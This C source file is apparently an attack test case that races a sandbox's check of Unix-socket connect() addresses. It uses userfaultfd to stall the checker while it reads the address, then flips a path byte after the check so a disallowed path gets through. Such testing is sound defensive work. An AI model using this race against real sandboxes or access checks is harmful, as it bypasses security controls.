/* Memory that is there only when the attacker says so: userfaultfd(2) stops whoever reads it. */
#include "attack.h"

#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <sched.h>
#include <stdint.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

struct paged {
	int faults;
	char *page;
	size_t size;
	struct sockaddr_un address;
	socklen_t length;
	int place;
	_Atomic bool waits; /* for the page */
};

static void watch_page(struct paged *paged)
{
	struct uffdio_api api = {.api = UFFD_API};
	struct uffdio_register range = {.mode = UFFDIO_REGISTER_MODE_MISSING};

	paged->size = (size_t)sysconf(_SC_PAGESIZE);
	paged->page = mmap(NULL, paged->size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	paged->faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	range.range.start = (uintptr_t)paged->page;
	range.range.len = paged->size;
	if (paged->page == MAP_FAILED || paged->faults < 0 || ioctl(paged->faults, UFFDIO_API, &api) != 0 ||
	    ioctl(paged->faults, UFFDIO_REGISTER, &range) != 0)
		err(77, "userfaultfd");
}

/* What the judge reads is allowed; as soon as it has it, it is not any more. */
static void answer_fault(struct stage *stage, void *context)
{
	struct paged *paged = context;
	struct pollfd ready = {.fd = paged->faults, .events = POLLIN};
	struct uffd_msg message;
	char page[65536] = {0};
	struct uffdio_copy copy = {.dst = (uintptr_t)paged->page, .src = (uintptr_t)page, .len = paged->size};

	(void)stage;
	if (poll(&ready, 1, 10) <= 0 || read(paged->faults, &message, sizeof(message)) != (ssize_t)sizeof(message))
		return;
	memcpy(page, &paged->address, sizeof(paged->address));
	if (ioctl(paged->faults, UFFDIO_COPY, &copy) != 0)
		return;
	for (int i = 0; i < 500; i++)
		((volatile struct sockaddr_un *)(void *)paged->page)->sun_path[paged->place] = 'a';
	((volatile struct sockaddr_un *)(void *)paged->page)->sun_path[paged->place] = 'd';
	atomic_store(&paged->waits, false);
}

static void call_connect(struct stage *stage, void *context)
{
	struct paged *paged = context;

	if (madvise(paged->page, paged->size, MADV_DONTNEED) != 0)
		err(1, "madvise");
	atomic_store(&paged->waits, true);
	attack_connect(stage, SOCK_STREAM, (const struct sockaddr_un *)(const void *)paged->page, paged->length);
	while (atomic_load(&paged->waits))
		(void)sched_yield();
}

void userfault_flip(struct stage *stage)
{
	struct paged paged = {0};

	paged.place = attack_address(stage, 'a', "stream", false, &paged.address, &paged.length);
	watch_page(&paged);
	attack_slow(stage, 100, 1000);
	attack_race(stage, answer_fault, call_connect, &paged, false);
}
